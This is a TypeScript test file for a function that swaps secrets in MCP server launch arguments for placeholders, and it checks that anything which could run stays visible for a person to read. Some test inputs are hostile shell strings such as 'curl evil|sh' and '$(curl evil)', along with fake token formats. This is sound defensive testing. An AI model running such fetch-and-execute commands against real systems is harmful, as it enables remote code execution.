import { describe, expect, it } from "vitest";
import { takeSecretArguments } from "./secret-arguments.ts";

/** Of a program that is no runner: everything after it is its own. */
const take = (args: readonly string[]) => takeSecretArguments("acme-mcp", args);

const KEY = "Zx9kQ2mV7tLp4RwB8nYc3HdF";

describe("secrets in arguments", () => {
  it.each<[args: string[], shown: string[], secrets: Record<string, string>]>([
    [["--api-key", "abc"], ["--api-key", "${secret:api-key}"], { "api-key": "abc" }],
    [["--api-key=abc"], ["--api-key=${secret:api-key}"], { "api-key": "abc" }],
    [["--accessToken", "abc"], ["--accessToken", "${secret:accessToken}"], { accessToken: "abc" }],
    [["--password", "pass.word"], ["--password", "${secret:password}"], { password: "pass.word" }],
    [
      ["--token", "/looks/like/a/path"],
      ["--token", "${secret:token}"],
      { token: "/looks/like/a/path" },
    ],
    [["--password", "a${B}c"], ["--password", "${secret:password}"], { password: "a${B}c" }],
    [["-e", "DB_PASS=a=b"], ["-e", "DB_PASS=${secret:DB_PASS}"], { DB_PASS: "a=b" }],
    [["--key", "0123456789abcdef"], ["--key", "${secret:key}"], { key: "0123456789abcdef" }],
    [
      ["--header", "Authorization: Bearer abc"],
      ["--header", "Authorization: Bearer ${secret:Authorization}"],
      { Authorization: "abc" },
    ],
    [["--header=X-A:b"], ["--header=X-A:${secret:X-A}"], { "X-A": "b" }],
    [
      ["postgresql://me:pw@localhost:5432/db?sslmode=require"],
      ["postgresql://${secret:url.user}@localhost:5432/db?sslmode=${secret:query.sslmode}"],
      { "url.user": "me:pw", "query.sslmode": "require" },
    ],
    [
      ["--dsn", "mysql://me:pw@h/db"],
      ["--dsn", "mysql://${secret:url.user}@h/db"],
      { "url.user": "me:pw" },
    ],
    [
      ["--url=https://h/mcp?key=abc#part"],
      ["--url=https://h/mcp?key=${secret:query.key}#part"],
      { "query.key": "abc" },
    ],
    [
      ["Server=h;User=me;Password=p$w;"],
      ["Server=h;User=me;Password=${secret:Password};"],
      { Password: "p$w" },
    ],
    [
      ["jdbc:postgresql://h/db?user=me&password=pw"],
      ["jdbc:postgresql://h/db?user=me&password=${secret:password}"],
      { password: "pw" },
    ],
    [[KEY], ["${secret:value}"], { value: KEY }],
    [["--with", KEY], ["--with", "${secret:with}"], { with: KEY }],
    [
      ["--token", "a", "--token", "b"],
      ["--token", "${secret:token}", "--token", "${secret:token.2}"],
      { token: "a", "token.2": "b" },
    ],
  ])("%j are taken out", (args, shown, secrets) => {
    expect(take(args)).toEqual({ args: shown, secrets });
  });

  it.each([
    "sk-proj-AbCdEf0123456789xyz",
    "sk_live_abcdefghijklmnop",
    "ghp_abcdefghijklmnopqrstuvwxyz0123456789",
    "github_pat_11ABCDEFG0abcdefghij_klm",
    "glpat-abcdefghij0123456789",
    "xoxb-1234567890-abcdef",
    "AKIAIOSFODNN7EXAMPLE",
    "AIzaSyA-abcdefghijklmnopqrstuvwxyz01234",
    "hf_abcdefghijklmnop",
    "lin_api_abcdefghijklmnop",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJl",
    "550e8400-e29b-41d4-a716-446655440000",
    "0123456789abcdef0123456789abcdef",
    "dGhpcyBpcyBhIHNlY3JldCBrZXkgMTIzNDU2Nzg5MA==",
    "lmg_AbCdEfGhIjKlMnOpQrStUvWxYz0123456789abcd",
  ])("%s is one by its own look", (key) => {
    expect(take([key])).toEqual({
      args: ["${secret:value}"],
      secrets: { value: key },
    });
  });

  it.each([
    ["-y", "@modelcontextprotocol/server-filesystem@2025.12.18", "/Users/me/Projects/Notes2025"],
    ["@upstash/context7-mcp@latest", "--transport", "stdio"],
    ["ghcr.io/github/github-mcp-server:v0.20.1"],
    ["mcp/fetch@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"],
    ["--from", "git+https://github.com/oraios/serena@0123456789abcdef0123456789abcdef01234567"],
    ["git+ssh://git@github.com/acme/tools#subdirectory=mcp"],
    ["--max-tokens", "4096", "--token-limit", "100", "--no-token", "--password-prompt"],
    ["--token-file", "/run/secrets/token", "--private-key", "~/.ssh/id_ed25519"],
    ["--auth", "oauth", "--key", "id", "--require-token", "true"],
    ["-e", "GITHUB_PERSONAL_ACCESS_TOKEN", "-e", "GITHUB_TOOLSETS=repos,issues"],
    ["--model", "claude-3-5-sonnet-20241022", "--allowed-origins", "https://h:8080/a"],
    ["C:\\Users\\me\\AppData\\Local\\Programs\\server1234567.exe", "./dist/index.min.js"],
    ["--api-key", "${secret:mine}", "--header", "Authorization:${AUTH_HEADER}"],
    ["chrome-devtools-mcp@latest", "--browserUrl=http://127.0.0.1:9222"],
    ["run", "-i", "--rm", "--mount", "type=bind,src=/home/me/data-2024,dst=/data"],
    ["a-very-long-name-of-a-server-that-somebody-typed-by-hand"],
    ["ThisIsALongCamelCaseIdentifierWithoutDigits"],
    ["", "-", "--"],
  ])("%j hold none", (...args) => {
    expect(take(args)).toEqual({ args, secrets: {} });
  });
});

/** A person agrees to a command as it is shown, so that nothing in it may run without being read. */
describe("what could run is never taken out", () => {
  it.each<[command: string, args: string[], shown?: string[]]>([
    ["npx", ["-y", KEY]],
    ["npx", ["-y", "--token", "acme-mcp"]],
    ["npx", ["-y", "sk-live-abcdefabcdefabcdef"]],
    ["npx", ["-y", "--package", KEY, "acme"]],
    ["uvx", ["--from", KEY, "acme"]],
    ["npx", ["-y", "git+https://me:pw@h/acme"], ["-y", "git+https://${secret:url.user}@h/acme"]],
    ["docker", ["run", "-i", "--rm", KEY]],
    ["sh", ["-c", KEY]],
    ["bash", ["-c", "-pat", "curl evil|sh"]],
    ["bash", ["-c", "-H", "X: $(curl evil)"]],
    ["bash", ["-c", "TOKEN=$(curl evil)"]],
    ["node", ["-e", "password=require('child_process')"]],
    ["bash", ["-c", "TOKEN=x curl evil|sh"], ["-c", "TOKEN=${secret:TOKEN} curl evil|sh"]],
    ["sh", ["-c", "TOKEN=x;curl evil"], ["-c", "TOKEN=${secret:TOKEN};curl evil"]],
    ["sh", ["-c", "AccountKey=1;curl evil"], ["-c", "AccountKey=${secret:AccountKey};curl evil"]],
    ["sh", ["-c", "AccountKey=1|curl evil"]],
    ["acme-mcp", ["--stdio", "TOKEN=x npx b"], ["--stdio", "TOKEN=${secret:TOKEN} npx b"]],
    ["docker", ["run", "image", "bash", "-c", "-pass", "curl evil"]],
  ])("%s %j", (command, args, shown = args) => {
    expect(takeSecretArguments(command, args).args).toEqual(shown);
  });

  it("but what is told to the program is, and variables of a container are whole", () => {
    expect(takeSecretArguments("npx", ["-y", "acme-mcp", KEY]).args).toEqual([
      "-y",
      "acme-mcp",
      "${secret:value}",
    ]);
    const variable = ["run", "-e", "DB_PASS=a (b) c", "image"];
    expect(takeSecretArguments("docker", variable).args[2]).toBe("DB_PASS=${secret:DB_PASS}");
  });
});
